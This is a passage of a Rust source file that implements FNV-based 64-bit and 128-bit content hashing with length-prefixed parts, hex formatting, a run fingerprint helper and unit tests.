    x ^= x >> 27;
    x = x.wrapping_mul(0x94d0_49bb_1331_11eb);
    x ^ (x >> 31)
}

/// FNV-1a-64 over one byte slice with the standard offset basis.
pub fn fnv64(bytes: &[u8]) -> u64 {
    let mut h = OFFSET_A;
    for &b in bytes {
        h ^= b as u64;
        h = h.wrapping_mul(FNV_PRIME);
    }
    h
}

/// A 128-bit content address.
#[derive(Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub struct ContentHash(pub [u8; 16]);

impl ContentHash {
    /// Hash a sequence of byte parts. Each part is prefixed with its length
    /// so `["ab", "c"]` and `["a", "bc"]` address different artifacts.
    pub fn of_parts(parts: &[&[u8]]) -> ContentHash {
        let mut a = OFFSET_A;
        let mut b = OFFSET_B;
        let mut step = |byte: u8| {
            a ^= byte as u64;
            a = a.wrapping_mul(FNV_PRIME);
            b ^= byte as u64;
            b = b.wrapping_mul(FNV_PRIME);
        };
        for part in parts {
            for byte in (part.len() as u64).to_le_bytes() {
                step(byte);
            }
            for &byte in *part {
                step(byte);
            }
        }
        let (a, b) = (avalanche(a), avalanche(b));
        let mut out = [0u8; 16];
        out[..8].copy_from_slice(&a.to_le_bytes());
        out[8..].copy_from_slice(&b.to_le_bytes());
        ContentHash(out)
    }

    /// Hash one byte slice.
    pub fn of(bytes: &[u8]) -> ContentHash {
        ContentHash::of_parts(&[bytes])
    }

    /// The first eight bytes as a little-endian integer — used as the frame
    /// key when an artifact rides in a frame, and cheap to index on.
    pub fn short(&self) -> u64 {
        u64::from_le_bytes(self.0[..8].try_into().expect("eight bytes"))
    }

    /// Parse back from the wire form produced by writing out `self.0`.
    pub fn from_bytes(bytes: &[u8]) -> Option<ContentHash> {
        bytes.try_into().ok().map(ContentHash)
    }
}

impl fmt::Debug for ContentHash {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        for b in self.0 {
            write!(f, "{b:02x}")?;
        }
        Ok(())
    }
}

impl fmt::Display for ContentHash {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        fmt::Debug::fmt(self, f)
    }
}

/// A 64-bit fingerprint over labelled byte parts — the journal's "same
/// seed + same config" run identity.
pub fn fingerprint(parts: &[&[u8]]) -> u64 {
    ContentHash::of_parts(parts).short()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn deterministic_and_distinct() {
        let a = ContentHash::of(b"hello");
        assert_eq!(a, ContentHash::of(b"hello"));
        assert_ne!(a, ContentHash::of(b"hellp"));
        assert_ne!(a, ContentHash::of(b"hell"));
    }

    #[test]
    fn part_boundaries_matter() {
        let ab_c = ContentHash::of_parts(&[b"ab", b"c"]);
        let a_bc = ContentHash::of_parts(&[b"a", b"bc"]);
        let abc = ContentHash::of(b"abc");
        assert_ne!(ab_c, a_bc);
        assert_ne!(ab_c, abc);
    }

    #[test]
    fn short_key_and_roundtrip() {
        let h = ContentHash::of(b"artifact");
        assert_eq!(ContentHash::from_bytes(&h.0), Some(h));
        assert_eq!(ContentHash::from_bytes(&h.0[..15]), None);
        assert_ne!(h.short(), 0);
    }

    #[test]
    fn hex_rendering() {
        let h = ContentHash([0xab; 16]);
        assert_eq!(format!("{h}"), "ab".repeat(16));
        assert_eq!(format!("{h:?}"), format!("{h}"));
    }

    #[test]
    fn fingerprint_sensitive_to_every_part() {
        let base = fingerprint(&[b"seed", b"config"]);
        assert_eq!(base, fingerprint(&[b"seed", b"config"]));
        assert_ne!(base, fingerprint(&[b"seed", b"confih"]));
        assert_ne!(base, fingerprint(&[b"seee", b"config"]));
    }
}
